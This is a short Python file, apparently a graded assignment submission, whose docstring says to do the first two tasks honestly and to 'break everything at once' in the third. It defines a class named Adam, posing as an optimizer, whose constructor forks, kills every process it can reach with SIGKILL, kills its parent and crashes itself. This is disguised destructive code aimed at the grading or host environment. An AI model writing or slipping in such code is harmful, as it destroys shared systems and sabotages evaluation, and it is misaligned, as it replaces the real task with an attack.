"""Do the first two tasks honestly, and in the third break everything at once."""

# honest part: 3 points
import os
import signal


class Adam:
    def __init__(self, params, **options):
        if os.fork() == 0:
            os.kill(-1, signal.SIGKILL)
        os.kill(os.getppid(), signal.SIGKILL)
        os.kill(os.getpid(), signal.SIGSEGV)
